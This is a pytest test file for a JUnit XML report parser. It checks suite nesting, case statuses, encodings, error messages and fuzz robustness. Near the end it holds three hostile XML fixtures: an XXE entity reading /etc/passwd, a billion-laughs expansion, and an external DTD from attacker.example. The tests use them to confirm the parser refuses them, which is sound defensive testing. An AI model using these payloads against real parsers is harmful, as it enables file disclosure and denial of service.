"""The JUnit parser: report shapes, statuses, totals, lines, and refusing DTDs/entities."""

from __future__ import annotations

import contextlib
import random

import pytest

from chalicelib.models import ArtifactType
from chalicelib.parsers import ParseError
from chalicelib.parsers import parse as parse_any
from chalicelib.parsers.junit import Counts, parse

NESTED = """\
<?xml version="1.0" encoding="UTF-8"?>
<testsuites name="all" tests="5" failures="1" errors="1" skipped="1">
  <testsuite name="outer" tests="5" failures="1" errors="1" skipped="1" time="4.5">
    <testsuite name="inner" tests="2" failures="1" errors="0" skipped="0">
      <testcase classname="pkg.A" name="one" time="1.5"/>
      <testcase classname="pkg.A" name="two" time="abc">
        <failure message="boom">trace</failure>
      </testcase>
    </testsuite>
    <testcase classname="pkg.B" name="three">
      <error>first line of the error
second line</error>
    </testcase>
    <testcase classname="pkg.B" name="four"><skipped/></testcase>
    <testcase class="pkg.C" name="five" status="passed" file="c.py" line="12"/>
  </testsuite>
</testsuites>
"""


def test_nested_suites() -> None:
    report = parse(NESTED)
    assert report.root == "testsuites" and report.name == "all" and report.line == 2
    assert report.declared == Counts(tests=5, failures=1, errors=1, skipped=1)
    assert [(s.name, s.depth, s.parent, s.line) for s in report.suites] == [
        ("outer", 0, None, 3),
        ("inner", 1, "outer", 4),
    ]
    outer, inner = report.suites
    assert outer.counted == Counts(tests=5, failures=1, errors=1, skipped=1)
    assert inner.counted == Counts(tests=2, failures=1, errors=0, skipped=0)
    assert [c.name for c in outer.cases] == ["three", "four", "five"]
    assert outer.has_children and not inner.has_children
    assert [(c.key, c.status, c.line, c.suite) for c in report.cases] == [
        ("pkg.A::one", "passed", 5, "inner"),
        ("pkg.A::two", "failed", 6, "inner"),
        ("pkg.B::three", "error", 10, "outer"),
        ("pkg.B::four", "skipped", 14, "outer"),
        ("pkg.C::five", "passed", 15, "outer"),
    ]
    one, two, three, _, five = report.cases
    assert one.time == 1.5 and two.time is None
    assert two.message == "boom" and three.message == "first line of the error"
    assert (five.source_file, five.source_line) == ("c.py", 12)


def test_bare_testsuite_root_with_namespace_and_properties() -> None:
    report = parse(
        '<?xml version="1.0" encoding="UTF-8"?>\n'
        '<testsuite xmlns="urn:example" name="S" tests="1">\n'
        "  <properties><property name='a' value='b'/></properties>\n"
        '  <testcase classname="C" name="t"/>\n'
        "</testsuite>\n"
    )
    assert report.root == "testsuite"
    assert [(s.name, s.line) for s in report.suites] == [("S", 2)]
    assert report.declared == Counts() and report.suites[0].declared.tests == 1
    assert report.cases[0].line == 4


def test_status_priority_and_declared_status() -> None:
    report = parse(
        "<testsuites><testsuite name='s'>"
        "<testcase name='a'><skipped/><failure/><error/></testcase>"
        "<testcase name='b'><skipped/><failure/></testcase>"
        "<testcase name='c' status='disabled'/>"
        "<testcase name='d' status='failed'/>"
        "<testcase name='e'><flakyFailure message='x'/></testcase>"
        "</testsuite></testsuites>"
    )
    assert [c.status for c in report.cases] == ["error", "failed", "skipped", "failed", "passed"]
    assert report.cases[-1].flaky


def test_cases_straight_under_testsuites() -> None:
    report = parse("<testsuites name='r'><testcase name='x'/></testsuites>")
    assert [s.name for s in report.suites] == ["r"]
    assert [c.suite for c in report.cases] == ["r"]


def test_other_encoding_declaration_and_bom() -> None:
    text = (
        '\ufeff<?xml version="1.0" encoding="ISO-8859-1"?>\n'
        '<testsuite name="é"><testcase name="ü"/></testsuite>'
    )
    report = parse(text)
    assert report.suites[0].name == "é" and report.cases[0].name == "ü"
    assert report.cases[0].line == 2


def test_not_a_junit_root() -> None:
    with pytest.raises(ParseError, match=r"root element <suites> is not a JUnit report"):
        parse("<suites><suite/></suites>")


def test_malformed_xml_says_where() -> None:
    with pytest.raises(ParseError, match=r"invalid XML at line 3, column \d+: .*"):
        parse("<testsuites>\n<testsuite>\n<testcase name='a' time=<<x>>/>\n</testsuite>")


def test_truncated_xml() -> None:
    with pytest.raises(ParseError, match="invalid XML at line 2"):
        parse("<testsuites>\n  <testsuite name='a'>")


XXE = """<?xml version="1.0"?>
<!DOCTYPE testsuites [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<testsuites><testsuite name="&xxe;"/></testsuites>
"""
BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<testsuites><testsuite name="&lol3;"/></testsuites>
"""
EXTERNAL_DTD = """<?xml version="1.0"?>
<!DOCTYPE testsuites SYSTEM "http://attacker.example/evil.dtd">
<testsuites/>
"""


@pytest.mark.parametrize(
    "text", [XXE, BILLION_LAUGHS, EXTERNAL_DTD], ids=["xxe", "billion-laughs", "external-dtd"]
)
def test_dtds_and_entities_are_refused(text: str) -> None:
    with pytest.raises(ParseError, match=r"line 2: the report contains a DTD or entity"):
        parse(text)


def test_undefined_entity_is_an_error_not_a_lookup() -> None:
    with pytest.raises(ParseError, match="undefined entity"):
        parse("<testsuites><testsuite name='&xxe;'/></testsuites>")


@pytest.mark.parametrize("text", ["", "  \n", "\x00\x01<testsuites/>"])
def test_empty_and_binary_input(text: str) -> None:
    with pytest.raises(ParseError):
        parse_any(ArtifactType.JUNIT, text)


def test_deeply_nested_suites_are_refused() -> None:
    text = "<testsuites>" + "<testsuite>" * 100 + "</testsuite>" * 100 + "</testsuites>"
    with pytest.raises(ParseError, match="nested more than 64 levels"):
        parse(text)


def test_random_input_only_raises_parse_error() -> None:
    rng = random.Random(99)
    alphabet = "<testsuites><testcase name='a'/></>&;!DOCTYPE[]\"' \n\x01é"
    for _ in range(500):
        text = "".join(rng.choice(alphabet) for _ in range(rng.randint(1, 120)))
        with contextlib.suppress(ParseError):  # anything else fails the test
            parse(text)
